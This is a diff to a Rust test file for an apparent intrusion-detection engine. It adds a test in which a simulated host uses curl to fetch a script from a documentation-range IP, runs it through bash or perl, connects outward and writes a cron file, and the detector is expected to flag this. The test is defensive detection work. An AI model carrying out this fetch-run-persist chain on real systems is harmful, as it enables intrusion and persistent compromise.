@@ -1,7 +1,7 @@
 //! What makes a chain of steps suspicious: each innocent job stands beside the attack that looks like it.
 
 use crate::{
-    model::{ProcessKey, Verdict},
+    model::{EventBody, InputFile, Inspection, ProcessKey, Verdict},
     testing::{Host, alerts, story},
 };
 
@@ -273,4 +273,28 @@ fn a_host_without_its_own_defences_and_a_bare_address_are_suspicious() {
     fetch_and_run(&mut host, shell, "http://203.0.113.10/x", "/tmp/x");
     let alerts = alerts(&host);
     assert!(alerts.iter().any(|alert| alert.verdict == Verdict::Suspected), "{}", story(&alerts));
+}
+
+/// The kernel does not say what an interpreter reads. The closer look comes after what the script did.
+#[test]
+fn a_fetched_script_on_standard_input_is_a_script_like_others() {
+    for command in [&["bash"][..], &["bash", "/dev/stdin"], &["perl"]] {
+        let mut host = Host::new();
+        let init = host.boot("/usr/lib/systemd/systemd", &["systemd"]);
+        let shell = shell(&mut host, init);
+        let url = "http://203.0.113.10/x";
+        let curl = host.spawn(shell, "/usr/bin/curl", &["curl", "-so", "/tmp/x", url]);
+        host.connect(curl, "203.0.113.10:80");
+        host.create(curl, "/tmp/x", 0o644);
+        host.exit(curl);
+        let reader = host.spawn(shell, &format!("/usr/bin/{}", command[0]), command);
+        host.connect(reader, "203.0.113.10:9000");
+        host.create(reader, "/etc/cron.d/sync", 0o644);
+        let input = Some(InputFile { path: "/tmp/x".into(), file: host.file("/tmp/x") });
+        host.happen(reader, EventBody::Inspection(Box::new(Inspection { input, ..Inspection::default() })));
+        let alerts = alerts(&host);
+        let last = alerts.last().expect("an alert");
+        assert_eq!(last.verdict, Verdict::Suspected, "{command:?}: {}", story(&alerts));
+        assert!(last.message.contains("/tmp/x"), "{command:?}: {}", last.message);
+    }
 }
